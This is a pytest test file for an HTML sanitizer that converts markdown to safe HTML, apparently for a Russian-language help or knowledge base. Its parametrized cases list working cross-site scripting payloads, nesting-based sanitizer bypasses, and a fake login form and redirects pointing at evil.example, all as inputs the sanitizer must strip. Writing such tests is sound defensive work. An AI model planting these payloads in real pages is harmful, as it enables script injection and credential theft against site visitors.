"""What editors type, and what somebody who means harm would."""

import re

import pytest

from otklik.knowledge import markup

pytestmark = pytest.mark.sections


def test_markdown_becomes_simple_html():
    made = markup.html(
        "# Куда звонить\n\n- **112**\n- [диспетчер](tel:+74950000000)\n\n| а | б |\n|-|-|\n| 1 | 2 |"
    )
    assert made.startswith("<h2>Куда звонить</h2>")
    assert "<li><strong>112</strong></li>" in made
    assert '<a href="tel:+74950000000" rel="noopener">диспетчер</a>' in made
    assert "<td>1</td>" in made


@pytest.mark.parametrize(
    "typed",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">нажмите</a>',
        "<a href='java\tscript:alert(1)'>нажмите</a>",
        '<a href="data:text/html;base64,PHNjcmlwdD4=">нажмите</a>',
        '<a href="vbscript:msgbox(1)">нажмите</a>',
        "[нажмите](javascript:alert(1))",
        "[нажмите](data:text/html,<script>alert(1)</script>)",
        "[нажмите]: javascript:alert(1)\n\n[нажмите]",
        "<p onclick=alert(1) style='position:fixed;inset:0'>текст</p>",
        "<style>body{display:none}</style>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=//evil.example><input name=password><button>Войти</button></form>",
        "<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        '```"><script>alert(1)</script>\n```',
        "<table background='javascript:alert(1)'><td style=x>1</td></table>",
    ],
)
def test_nothing_that_runs_or_reaches_out_gets_through(typed):
    made = markup.html(f"Начало.\n\n{typed}\n\nКонец.").lower()
    tags = " ".join(re.findall(r"<[^>]*>", made))
    assert not re.search(
        r"script|style|svg|math|iframe|form|input|base|meta|link|\bon\w+=|srcdoc|data:|vbscript", tags
    )
    assert "начало." in made


def test_what_nests_without_end_is_read_in_time_and_stays_harmless():
    assert markup.html("<div>" * 8000) == ""
    assert "<script" not in markup.html("<b>" * 8000 + "<script>alert(1)</script>")
    assert len(markup.html("> " * 20000)) < 40_000


def test_the_search_sees_words_only():
    html = markup.html("<h1>Тариф</h1><p>Вода&nbsp;&amp; газ</p><ul><li>Ёлка</li></ul>")
    assert markup.words(html) == "Тариф Вода & газ Ёлка"
    assert markup.folded("Ёлка, №5 — «вода_газ»!") == "елка 5 вода газ"
